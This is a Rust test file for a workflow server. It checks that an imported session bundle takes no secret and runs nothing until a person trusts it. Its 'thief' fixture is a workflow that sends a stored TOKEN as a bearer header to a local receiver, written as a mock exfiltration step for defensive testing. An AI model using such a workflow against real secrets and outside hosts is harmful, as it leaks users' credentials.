//! A bundle that somebody made to take a secret: it is brought to a server that runs, and waits
//! there until a person has looked at it.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::json;

use crate::canary::set_secret;
use crate::receiver::{Receiver, Request};
use crate::server::{Place, Server, call};

/// Waits a moment, takes the secret and leaves a mark.
fn thief(port: u16) -> String {
    format!(
        "name: Thief
env: [{{ name: TOKEN, widget: secret, required: true }}]
graph:
  nodes:
    - {{ id: nap, type: wait, duration_sec: 1, next: take }}
    - {{ id: take, type: http, method: POST, url: 'http://127.0.0.1:{port}/taken', headers: {{ Authorization: 'Bearer {{{{ secret.TOKEN }}}}' }}, next: mark }}
    - {{ id: mark, type: end, result: done }}
"
    )
}

const NAP: &str = "name: Nap\ngraph: { nodes: [{ id: a, type: wait, duration_sec: 2, next: b }, { id: b, type: end }] }\n";

fn begin(place: &Place, server: &Server, workflow: &str) -> String {
    let (token, body) = (place.token(), json!({"workflow": workflow}));
    let begun = call(&server.address, &token, "POST /api/v1/runs", "", Some(&body)).unwrap();
    begun.1["runId"].as_str().unwrap_or_else(|| panic!("{begun:?}")).to_owned()
}

fn show(place: &Place, server: &Server, run: &str) -> serde_json::Value {
    let what = format!("GET /api/v1/runs/{run}");
    call(&server.address, &place.token(), &what, "", None).unwrap().1
}

fn until(place: &Place, server: &Server, run: &str, status: &str) {
    let begun = Instant::now();
    loop {
        let shown = show(place, server, run);
        if shown["status"] == status {
            return;
        }
        assert!(begun.elapsed() < Duration::from_secs(60), "{run} is not {status}: {shown}");
        std::thread::yield_now();
    }
}

/// Lets a run of the place itself come to its end, which takes longer than the thief waits.
fn a_while(place: &Place, server: &Server) {
    let own = begin(place, server, "nap");
    until(place, server, &own, "succeeded");
}

// case: bundle.no-authority
#[test]
fn a_bundle_takes_no_secret_and_runs_nothing_before_a_person_trusts_it() {
    let taken: Arc<Mutex<Vec<String>>> = Arc::default();
    let seen = Arc::clone(&taken);
    let receiver = Receiver::start(move |request: &Request, _| {
        let sent = request.headers.get("authorization").cloned().unwrap_or_default();
        seen.lock().unwrap().push(sent);
        Some((200, json!({})))
    });
    let allow = "[http]\nallow = [\"127.0.0.1:*\"]\n";
    let place = |secret: &str| {
        let files = [("thief", thief(receiver.port)), ("nap", NAP.to_owned())];
        let place = Place::new(allow, &files);
        set_secret(&place, "TOKEN", secret);
        place
    };
    let (theirs, ours) = (place("theirs"), place("ours"));
    let run = {
        let server = theirs.serve();
        let run = begin(&theirs, &server, "thief");
        until(&theirs, &server, &run, "waiting");
        run
    };
    let session = theirs.command(&["runs", "show", &run, "--json"]).output().unwrap().stdout;
    let session: serde_json::Value = serde_json::from_slice(&session).unwrap();
    let session = session["sessionId"].as_str().unwrap().to_owned();
    let bundle = ours.path("bundle.json").display().to_string();
    let exported = theirs.command(&["session", "export", &session, "-o", &bundle]).output();
    assert!(exported.unwrap().status.success());

    let mut server = ours.serve();
    let imported = ours.command(&["session", "import", &bundle, "--json"]).output().unwrap();
    assert!(imported.status.success(), "{}", String::from_utf8_lossy(&imported.stderr));
    let imported: serde_json::Value = serde_json::from_slice(&imported.stdout).unwrap();
    let root = imported["rootHash"].as_str().unwrap();
    a_while(&ours, &server);
    let what = format!("POST /api/v1/runs/{run}/resume");
    let resumed = call(&server.address, &ours.token(), &what, "", None).unwrap();
    assert_eq!(resumed.1["code"], "SESSION_UNTRUSTED", "{resumed:?}");
    // Also not when a server begins that finds it there.
    server.kill();
    let server = ours.serve();
    a_while(&ours, &server);
    assert_eq!(*taken.lock().unwrap(), Vec::<String>::new());
    assert_eq!(show(&ours, &server, &run)["status"], "paused");

    let trusted = ours.command(&["session", "trust", &session, "--root", root]).output().unwrap();
    assert!(trusted.status.success(), "{}", String::from_utf8_lossy(&trusted.stderr));
    let shown = String::from_utf8_lossy(&trusted.stderr).into_owned();
    assert!(shown.contains("TOKEN") && shown.contains("127.0.0.1"), "{shown}");
    a_while(&ours, &server);
    assert_eq!(*taken.lock().unwrap(), Vec::<String>::new(), "trust permits, and starts nothing");
    let resumed = call(&server.address, &ours.token(), &what, "", None).unwrap();
    assert_eq!(resumed.0, 200, "{resumed:?}");
    until(&ours, &server, &run, "succeeded");
    assert_eq!(*taken.lock().unwrap(), ["Bearer ours"]);
}
